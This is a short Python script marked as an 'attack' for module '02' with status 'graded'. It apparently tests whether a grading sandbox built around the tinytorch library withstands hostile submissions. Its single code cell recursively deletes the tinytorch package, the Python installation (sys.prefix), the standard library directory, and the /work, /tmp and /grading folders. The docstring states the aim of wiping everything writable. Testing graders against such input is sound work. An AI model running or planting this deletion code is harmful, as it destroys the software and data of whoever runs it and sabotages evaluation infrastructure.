"""Everything that can be written to or deleted is, the interpreter first."""

# /// attack
# module = "02"
# status = ["graded"]
# ///

# %% first
import os, shutil, sys, tinytorch
for folder in (os.path.dirname(tinytorch.__file__), sys.prefix, os.path.dirname(os.__file__), "/work", "/tmp", "/grading"):
    shutil.rmtree(folder, ignore_errors=True)
